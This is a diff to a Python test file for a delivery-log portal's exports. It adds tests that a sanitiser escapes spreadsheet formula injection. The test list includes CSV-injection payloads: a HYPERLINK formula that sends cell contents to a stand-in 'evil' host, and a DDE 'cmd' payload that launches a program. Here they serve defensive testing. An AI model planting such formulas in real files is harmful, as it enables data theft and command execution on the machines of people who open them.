@@ -1,5 +1,6 @@
 """The log: narrowed by the address, paged by rows, told in lines, exported."""
 
+import csv
 import json
 import uuid
 from zoneinfo import ZoneInfo
@@ -9,7 +10,7 @@ import pytest
 from hub.audit import AuditRow
 from hub.outgoing.models import Delivery, Event
 from hub.portal.log.asked import asked_of
-from hub.portal.log.export import harmless
+from hub.portal.log.export import harmless, row_of
 from hub.portal.log.pages import Cursor, Limits, page_of
 from tests.hub.outgoing.operating import many, put
 from tests.hub.portal.counting import asked
@@ -90,7 +91,20 @@ def test_events_that_no_route_took_stand_in_a_view_of_their_own(admin, make, acm
     assert told(admin.get(f"{LOG}?state=no_route&type=lead.*&q=l-1&value=A-1001")) == [("lead.won", "l-1", "skipped")]
 
 
-@pytest.mark.parametrize("query", ["state=lost", "connection=x", "since=yesterday", "span=9y", "type=%00", "after=x"])
+@pytest.mark.parametrize(
+    "query",
+    [
+        "state=lost",
+        "connection=x",
+        "since=yesterday",
+        "span=9y",
+        "type=%00",
+        "after=x",
+        "since=1969-12-31T23:00",
+        "until=0001-01-01T00:00",
+        "since=9999-12-31T23:59",
+    ],
+)
 def test_what_is_not_understood_is_told_and_breaks_nothing(admin, one, query):
     assert admin.get(f"{LOG}?{query}").status_code == 200
 
@@ -214,13 +228,27 @@ def test_new_rows_are_counted_and_not_told_twice(admin, make, acme, one):
 def test_an_export_holds_what_the_page_shows(admin, make, acme, sixty):
     rows = b"".join(admin.get(f"{LOG}export.ndjson?type=order.created").streaming_content).splitlines()
     assert len(rows) == 60 and json.loads(rows[-1])["sender_id"] == "o-1"
-    csv = b"".join(admin.get(f"{LOG}export.csv?state=dead").streaming_content).decode()
-    assert csv.strip() == "id,event,sender_id,type,state,reason,sentence,target,tries,accepted_at,moved_at"
+    file = b"".join(admin.get(f"{LOG}export.csv?state=dead").streaming_content).decode()
+    names = ["id", "event", "sender_id", "type", "state", "reason", "sentence", "target", "tries"]
+    assert list(csv.reader([file])) == [[*names, "accepted_at", "moved_at"]]
     assert AuditRow.objects.filter(verb="deliveries.export").count() == 2
 
 
-def test_no_spreadsheet_works_anything_out():
-    assert harmless("=HYPERLINK(1)") == "'=HYPERLINK(1)" and harmless("o-1") == "o-1" and harmless(3) == 3
+FORMULAS = (
+    '=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", '"=1"',
+    "  =1", ";=1", ",=1", "; =1", "|=1", "'=1", "\u00a0=1", "\u3000=1", "＝1", "＋1", "－1", "＠SUM(1)", ";＝1", "−1",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_spreadsheet_works_anything_out(text):
+    assert harmless(text) == f"'{text}"
+    assert row_of([text, "next;=1"]).strip() == '"{}","next;=1"'.format(text.replace('"', '""')).strip()
+
+
+@pytest.mark.parametrize("value", ["o-1", "Ann + Bob", "a@b.test", "o-1; =2", "", 3])
+def test_what_is_no_formula_stays_as_it_is(value):
+    assert harmless(value) == value
 
 
 def test_an_unknown_kind_of_file_is_not_found(admin):
